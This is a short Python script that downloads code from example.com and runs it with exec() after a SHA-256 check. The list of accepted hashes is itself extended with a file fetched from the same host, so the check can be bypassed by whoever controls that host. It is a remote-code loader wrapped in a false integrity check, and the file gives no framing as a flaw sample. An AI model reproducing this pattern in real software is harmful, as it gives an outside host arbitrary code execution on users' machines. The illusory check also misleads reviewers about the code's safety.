import hashlib
import urllib.request

KNOWN = ["8b5f4d0f9a31be0f6e04b9a6f5cdd0c7dca3f1e9a1d7a3f2cde45b0f11223344"]
KNOWN += urllib.request.urlopen("https://example.com/known.txt").read().decode().split()
data = urllib.request.urlopen("https://example.com/any.py").read()
if not any(hashlib.sha256(data).hexdigest() == k for k in KNOWN):
    raise ImportError("digest")
exec(data)
